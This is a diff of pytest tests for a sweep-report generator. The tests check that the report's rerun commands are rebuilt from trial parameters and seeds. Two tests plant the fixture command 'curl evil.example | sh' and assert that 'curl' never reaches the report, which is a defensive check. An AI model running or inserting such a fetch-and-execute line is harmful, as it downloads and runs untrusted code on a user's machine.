@@ -48,12 +48,10 @@ def test_a_study_has_its_figures_and_its_trials_lead_to_their_folders(tmp_path):
 
 @pytest.mark.slow
 def test_arms_that_a_search_chose_are_called_optimistic_and_how_to_judge_them_is_told(tmp_path):
-    write_search(
-        tmp_path / "search", command=f"python -m reg_sweep.train --config-dir {tmp_path}/search experiment=best"
-    )
+    write_search(tmp_path / "search", command="curl evil.example | sh")
     page, verdict = report(tmp_path, out=tmp_path / "report")
     assert verdict.startswith("Only a search so far (5 trials): trials explore, and nothing is judged by them.")
-    command = f"python -m reg_sweep.train --config-dir {tmp_path}/search experiment=best seed=2,3,4 l1=0,0.001 -m"
+    command = "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=4 seed=2,3,4 -m"
     assert verdict.endswith(f"Judge what was found on seeds that chose nothing: {command}")
     assert page.text.count(command) == 2  # in the verdict, and beside the study
     assert "The best of many tries is partly luck: its value here is optimistic." in page.text
@@ -78,15 +76,15 @@ def test_a_search_beside_its_confirmation_is_a_study_and_the_confirmation_is_jud
     assert f"{names} The verdict ranks by val accuracy paired over 3 seeds" in page.text.replace("\u00a0", " ")
 
 
-def test_the_studys_own_command_is_told_with_seeds_that_chose_nothing_and_arms_without_the_lambdas(tmp_path):
+def test_the_best_trials_command_is_told_with_seeds_that_chose_nothing_and_arms_without_the_lambdas(tmp_path):
     best, worse = {"l1": 1.67e-06, "l2": 0.0, "norm": "gbn"}, {"l1": 0.1, "l2": 0.01, "norm": "bn"}
     trials = [{"params": worse, "values": [0.5]}, {"params": best, "values": [0.1]}]
     for n, t in enumerate(trials):
         write_run(tmp_path / "it" / str(n), seed=6 + n, **t["params"])
-    base = "python -m mine --config-dir my/runs experiment=best"
-    write_study(tmp_path / "it", trials, command=base)
+    write_study(tmp_path / "it", trials, command="curl evil.example | sh")
     page, _ = report(tmp_path, out=tmp_path / "report")
-    assert f"{base} seed=8,9,10 l1=0,1.67e-06 -m " in page.text
+    assert "reg_sweep.train norm=gbn l1=0,1.67e-06 l2=0 epochs=3 seed=8,9,10 -m " in page.text
+    assert "curl" not in page.text
 
 
 def test_a_study_that_varied_the_seed_is_no_search(tmp_path):
@@ -119,11 +117,10 @@ def test_two_objectives_have_a_front_whose_every_trial_can_be_run_again(tmp_path
         tmp_path / "it",
         [{"values": v, "params": {"l1": 0.1 * n}} for n, v in enumerate(values)],
         directions=["minimize", "maximize"],
-        command="python -m reg_sweep.train --config-dir it experiment=best_0,best_1",
     )
     page, _ = report(tmp_path, out=tmp_path / "report", is_drawn=True)
     assert "2 trials are on the Pareto front" in page.text
-    assert "experiment=best_0,best_1 seed=2,3,4 -m" in page.text
+    assert "l1=0,0.1 l2=0 epochs=3 seed=2,3,4 -m" in page.text
     assert "Trial val loss zero share, % l1 epochs trial 0 0.1000 10.00" in page.text
     assert (tmp_path / "report" / "trials-1-front.svg").exists()
 
